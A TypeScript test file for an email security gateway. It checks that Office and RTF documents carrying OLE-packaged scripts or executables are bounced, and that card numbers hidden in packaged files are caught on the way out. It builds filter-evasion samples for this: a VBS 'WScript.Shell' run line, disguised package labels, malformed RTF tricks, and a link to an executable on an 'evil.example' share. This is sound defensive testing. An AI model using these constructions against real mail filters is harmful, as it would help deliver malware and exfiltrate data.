import { olePackageObject, packagedFile, rtfWithObject, wordBinary, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit, outboundFile } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A47-8 (found checking round 46's leads): a file packaged in an Office document (Windows' Object Packager: the
// document shows an icon, a double click writes the file to a temporary path and opens it) was delivered, an
// `invoice.vbs` or `invoice.exe` inside a .docx, an .rtf or a bare `oleObject1.bin`: the guard listed a zip's
// files but did not open the OLE objects a document embeds. Packages are now listed as an archive's files.
const stack = useLocalStack();
const kit = attackerKit(stack);
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
const docx = (embedded: Buffer) =>
  zipFile([
    {
      name: 'word/document.xml',
      data: '<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>',
    },
    { name: 'word/embeddings/oleObject1.bin', data: embedded },
  ]);
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;

describe('A47-8: a file packaged in an Office document', () => {
  for (const [file, content] of [
    ['invoice.vbs', vbs],
    ['invoice.exe', exe],
  ] as const) {
    it(`bounces a .docx packaging ${file}`, async () => {
      expect(await verdict('Invoice.docx', docx(olePackageObject(file, content)), DOCX)).toBe('BOUNCE');
    });
    it(`bounces an .rtf packaging ${file} (a Package object, and a compound file inside an object)`, async () => {
      expect(
        await verdict('Invoice.rtf', Buffer.from(rtfWithObject('Package', packagedFile(file, content)))),
      ).toBe('BOUNCE');
      const nested = rtfWithObject('Word.Document.8', olePackageObject(file, content));
      expect(await verdict('Invoice.rtf', Buffer.from(nested))).toBe('BOUNCE');
    });
    it(`bounces a bare embedded object packaging ${file}`, async () => {
      expect(await verdict('oleObject1.bin', olePackageObject(file, content))).toBe('BOUNCE');
    });
  }
  it('bounces a package shown under a harmless label but opened as a script', async () => {
    const object = olePackageObject('invoice.vbs', vbs, 'Invoice.pdf');
    expect(await verdict('Invoice.docx', docx(object), DOCX)).toBe('BOUNCE');
  });
  it('bounces an RTF whose object data is not plain hex (Word reads it leniently; we cannot)', async () => {
    const rtf = rtfWithObject('Package', packagedFile('invoice.vbs', vbs)).replace('0501', '05{\\*\\x}01');
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
  it('bounces an RTF that starts as Word checks (`{\\rt`), named as anything', async () => {
    const rtf = rtfWithObject('Package', packagedFile('invoice.vbs', vbs)).replace('{\\rtf1', '{\\rtx1');
    expect(await verdict('Invoice.doc', Buffer.from(rtf))).toBe('BOUNCE');
  });
  it('bounces a package cut short', async () => {
    const cut = packagedFile('invoice.pdf', Buffer.from('%PDF-1.7\n')).subarray(0, 30);
    expect(await verdict('Invoice.rtf', Buffer.from(rtfWithObject('Package', cut)))).toBe('BOUNCE');
  });
  it('bounces a link package opening an executable on a share, and packages read two ways', async () => {
    const u32 = (n: number) => {
      const b = Buffer.alloc(4);
      b.writeUInt32LE(n);
      return b;
    };
    const z = (text: string) => Buffer.from(`${text}\0`, 'latin1');
    const linked = Buffer.concat([
      Buffer.from([2, 0]),
      z('Invoice'),
      z('\\\\evil.example\\share\\invoice.exe'),
      u32(0x00010000),
    ]);
    const unknownKind = Buffer.concat([
      Buffer.from([2, 0]),
      z('a.txt'),
      z('C:\\a.txt'),
      u32(0x00070000),
      u32(6),
      z('a.txt'),
      u32(1),
      Buffer.from('x'),
    ]);
    // The temporary path's length says `a.txt`; its NUL comes later, after `a.txt.vbs`.
    const twoWays = Buffer.concat([
      Buffer.from([2, 0]),
      z('a.txt'),
      z('C:\\a.txt'),
      u32(0x00030000),
      u32(6),
      Buffer.from('a.txt.vbs\0', 'latin1'),
      u32(1),
      Buffer.from('x'),
    ]);
    for (const native of [linked, unknownKind, twoWays])
      expect(await verdict('Invoice.rtf', Buffer.from(rtfWithObject('Package', native)))).toBe('BOUNCE');
  });
  it('delivers documents packaging a PDF, a Word 97 document and a plain RTF (controls)', async () => {
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n');
    expect(await verdict('Report.docx', docx(olePackageObject('report.pdf', pdf)), DOCX)).toBe('DEFAULT');
    expect(
      await verdict('Report.rtf', Buffer.from(rtfWithObject('Package', packagedFile('report.pdf', pdf)))),
    ).toBe('DEFAULT');
    expect(
      await verdict('Report.doc', wordBinary([{ text: 'Quarterly report' }]), 'application/msword'),
    ).toBe('DEFAULT');
    expect(
      await verdict('Note.rtf', Buffer.from('{\\rtf1\\ansi Hello {\\b world}\\par}'), 'application/rtf'),
    ).toBe('DEFAULT');
  });
});

// A47-9: the same packages carried a card out past outbound-policy's DLP: the strings of an OLE file do not show
// a zip packaged in it, and an RTF's `\objdata` was read as hex. Packaged files are now read as attached files are.
describe('A47-9: a card in a file packaged in an Office document', () => {
  const cards = Buffer.from('Card: 4111 1111 1111 1111 exp 12/29\r\n');
  const zipped = zipFile([{ name: 'cards.txt', data: cards.toString('latin1') }]);
  const out = (name: string, file: Buffer) => kit.outbound(outboundFile(name, file));
  it('bounces a .docx packaging a zip of the card', async () => {
    expect(await out('Invoice.docx', docx(olePackageObject('cards.zip', zipped)))).toBe('BOUNCE');
  });
  it('bounces an .rtf packaging the card as text, or a zip of it inside an embedded object', async () => {
    expect(
      await out('Invoice.rtf', Buffer.from(rtfWithObject('Package', packagedFile('cards.txt', cards)))),
    ).toBe('BOUNCE');
    const nested = rtfWithObject('Word.Document.8', olePackageObject('cards.zip', zipped));
    expect(await out('Invoice.rtf', Buffer.from(nested))).toBe('BOUNCE');
  });
  it('sends a document packaging a clean file (control)', async () => {
    const note = Buffer.from('Meeting at ten.\r\n');
    expect(
      await out('Invoice.rtf', Buffer.from(rtfWithObject('Package', packagedFile('note.txt', note)))),
    ).toBe('DEFAULT');
    expect(
      await out('Invoice.docx', docx(olePackageObject('note.zip', zipFile([{ name: 'n.txt', data: 'hi' }])))),
    ).toBe('DEFAULT');
  });
});
